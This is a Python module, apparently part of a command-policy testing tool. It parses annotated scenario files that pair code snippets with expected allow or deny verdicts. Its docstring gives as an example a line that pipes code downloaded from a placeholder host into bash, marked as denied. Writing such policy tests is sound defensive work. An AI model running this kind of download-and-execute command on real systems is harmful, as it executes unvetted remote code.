"""Scenario files: programs with, above each, what policy is to say of it.

`*.scenario.sh`, `.py`, `.js`, `.ts`, `.r` and `.java`, any number of snippets in one file:

    # deny: network.downloaded-code
    curl http://x.example/install | bash

    # allow
    # cwd: /home/user/project
    rm -rf build

A snippet is what stands between its annotations and the next ones. `deny:`, `ask:` and `shadow:` name rules that must
be among the reasons; `allow` is about all rules, `ok:` about those that it names: they do not fire. `todo:` names rules
that ought to fire and do not yet. `cwd:`, `env: NAME=VALUE`, `profile:` and `file: PATH = TEXT` directly before or
after another annotation say under what circumstances.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal as L
from typing import cast, get_args

from interlock.errors import ConfigError, InvalidRequest
from interlock.workbench.cases import Case, case
from interlock.workbench.findings import Place

Word = L["allow", "deny", "ask", "shadow", "ok", "todo"]

LANGUAGES = {"sh": "bash", "py": "python", "js": "javascript", "ts": "typescript", "r": "r", "java": "java"}
"""What follows `.scenario.` → the language."""

_COMMENT = {"javascript": "//", "typescript": "//", "java": "//"}
_EXPECTED = re.compile(rf"({'|'.join(get_args(Word))})\b(.*)")
_RULES = re.compile(r":\s*([a-z_]+\.[a-z0-9-]+(?:\s*,\s*[a-z_]+\.[a-z0-9-]+)*)\s*")
_CIRCUMSTANCE = re.compile(r"(cwd|env|profile|file):\s*(.+?)\s*")


@dataclass(frozen=True, slots=True)
class Expectation:
    """One annotation."""

    word: Word
    rules: tuple[str, ...]
    """Empty for `allow`."""
    place: Place

    def __str__(self) -> str:
        return f"{self.word}: {', '.join(self.rules)}" if self.rules else self.word


@dataclass(frozen=True, slots=True)
class Scenario:
    """One snippet."""

    source: str
    language: str
    expected: tuple[Expectation, ...]
    place: Place
    """Of the snippet."""
    cwd: str = ""
    env: Mapping[str, str] = field(default_factory=dict)
    files: Mapping[str, str] = field(default_factory=dict)
    profile: str = ""
    """Empty: the one that the command was given."""

    def case(self) -> Case:
        return case(self.source, self.language, cwd=self.cwd, env=self.env, files=self.files)


def below(directory: Path) -> Iterator[Scenario]:
    """The scenarios of all files below a directory, by file. Raises `ConfigError` with the line of what is wrong."""
    for path in sorted(directory.rglob("*.scenario.*")):
        if path.suffix[1:].lower() in LANGUAGES:
            yield from read(path)


def read(path: Path) -> list[Scenario]:
    """Raises `ConfigError` with the line of what is wrong."""
    try:
        text = path.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError) as error:
        raise ConfigError(f"`{path}`: {error}", "a scenario file is UTF-8") from error
    return parse(text, LANGUAGES[path.suffix[1:].lower()], path)


def parse(text: str, language: str, path: Path) -> list[Scenario]:
    """The scenarios in a text. Raises `ConfigError` with the line of what is wrong."""
    found: list[Scenario] = []
    lines = text.split("\n")
    position = _preamble(lines, language, path)
    while position < len(lines):
        position, scenario = _one(lines, position, language, path)
        found.append(scenario)
    return found


def rendered(source: str, language: str, expectation: str, *circumstances: str) -> str:
    """One snippet as such a file holds it, for a file that begins with it or has it appended.

    Raises `InvalidRequest` where the source cannot be written so: it would be read as more than one, or as another.
    """
    mark = _COMMENT.get(language, "#")
    text = "".join(f"{mark} {line}\n" for line in (expectation, *circumstances)) + source.strip("\n") + "\n"
    try:
        (back,) = parse(text, language, Path("scenario"))
    except (ConfigError, ValueError):
        back = None
    if back is None or back.source != source.strip("\n"):
        raise InvalidRequest("the source has lines that look like a scenario's annotations")
    return text


def _preamble(lines: list[str], language: str, path: Path) -> int:
    """The line of the first annotation. Only comments may stand above it."""
    mark = _COMMENT.get(language, "#")
    for number, line in enumerate(lines):
        if _is_annotation(line, language):
            return _block_start(lines, number, language)
        if line.strip() and not line.startswith(mark):
            raise _wrong(path, number, "no annotation says what is expected of it")
    return len(lines)


def _block_start(lines: list[str], at: int, language: str) -> int:
    """Circumstances may stand above the first expectation."""
    while at > 0 and _annotation(lines[at - 1], language, _CIRCUMSTANCE):
        at -= 1
    return at


def _one(lines: list[str], at: int, language: str, path: Path) -> tuple[int, Scenario]:
    expected: list[Expectation] = []
    cwd = profile = ""
    env: dict[str, str] = {}
    files: dict[str, str] = {}
    while at < len(lines):
        if _is_annotation(lines[at], language):
            expected.append(_expectation(lines[at], language, Place(path, at + 1)))
        elif found := _annotation(lines[at], language, _CIRCUMSTANCE):
            name, value = found
            if name == "cwd":
                cwd = value
            elif name == "profile":
                profile = value
            elif name == "env":
                key, equals, said = value.partition("=")
                if not equals or not key:
                    raise _wrong(path, at, "`env:` takes NAME=VALUE")
                env[key] = said
            else:
                key, said = _file(value, path, at)
                files[key] = said
        else:
            break
        at += 1
    start = at
    while at < len(lines) and not _is_annotation(lines[at], language):
        at += 1
    end = _block_start(lines, at, language) if at < len(lines) else at
    source = "\n".join(lines[start:end]).strip("\n")
    if not source.strip():
        raise _wrong(path, start - 1, "nothing stands below the annotation")
    first = start + next(n for n, line in enumerate(lines[start:end]) if line)
    place = Place(path, first + 1, 1, first + 1 + source.count("\n"))
    return end, Scenario(source, language, tuple(expected), place, cwd, env, files, profile)


def _file(value: str, path: Path, at: int) -> tuple[str, str]:
    name, equals, text = value.partition(" = ")
    try:
        said = json.loads(text) if text.startswith('"') else text
    except ValueError as error:
        raise _wrong(path, at, f"the text after ` = ` is no JSON string ({error})") from error
    if not equals:
        raise _wrong(path, at, "`file:` takes PATH = TEXT, the text as it is or as a JSON string")
    return name, said


def _expectation(line: str, language: str, place: Place) -> Expectation:
    found = _annotation(line, language, _EXPECTED)
    assert found is not None  # INVARIANT: `_is_annotation` was asked
    word, rest = cast(Word, found[0]), found[1]
    if word == "allow":
        if rest.strip():
            raise _wrong(place.path, place.line - 1, "`allow` is about all rules; of single ones say `ok: RULE`")
        return Expectation(word, (), place)
    rules = _RULES.fullmatch(rest)
    if rules is None:
        raise _wrong(place.path, place.line - 1, f"`{word}:` takes CATEGORY.RULE[, CATEGORY.RULE…]")
    return Expectation(word, tuple(rule.strip() for rule in rules[1].split(",")), place)


def _is_annotation(line: str, language: str) -> bool:
    """Whether a line is meant as one: `# allow` by itself, or another word with a colon behind it."""
    found = _annotation(line, language, _EXPECTED)
    return found is not None and (found[1].startswith(":") or (found[0] == "allow" and not found[1].strip()))


def _annotation(line: str, language: str, form: re.Pattern[str]) -> tuple[str, str] | None:
    mark = _COMMENT.get(language, "#")
    if not line.startswith(mark):
        return None
    found = form.fullmatch(line.removeprefix(mark).strip())
    return (found[1], found[2]) if found else None


def _wrong(path: Path, at: int, why: str) -> ConfigError:
    return ConfigError(f"{path}:{at + 1}: {why}", "see docs/policies.md for the form of scenario files")
